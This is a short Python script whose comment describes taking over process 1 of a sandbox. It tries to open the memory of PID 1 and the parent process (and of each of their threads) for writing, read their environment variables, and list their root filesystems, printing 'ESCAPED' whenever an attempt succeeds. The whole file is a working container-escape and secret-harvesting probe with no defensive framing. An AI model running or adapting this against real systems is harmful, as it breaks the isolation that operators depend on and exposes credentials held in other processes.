# Takes over process 1 of the sandbox, whose other threads still have capabilities.
import os
def attempt(name, action):
    try:
        action()
        print("ESCAPED:", name)
    except OSError:
        pass
for pid in {1, os.getppid()} - {os.getpid()}:
    attempt(f"mem of {pid}", lambda: open(f"/proc/{pid}/mem", "r+b"))
    attempt(f"environ of {pid}", lambda: open(f"/proc/{pid}/environ", "rb").read())
    attempt(f"root of {pid}", lambda: os.listdir(f"/proc/{pid}/root"))
    attempt(f"threads of {pid}", lambda: [open(f"/proc/{pid}/task/{t}/mem", "r+b") for t in os.listdir(f"/proc/{pid}/task")])
print("DONE")
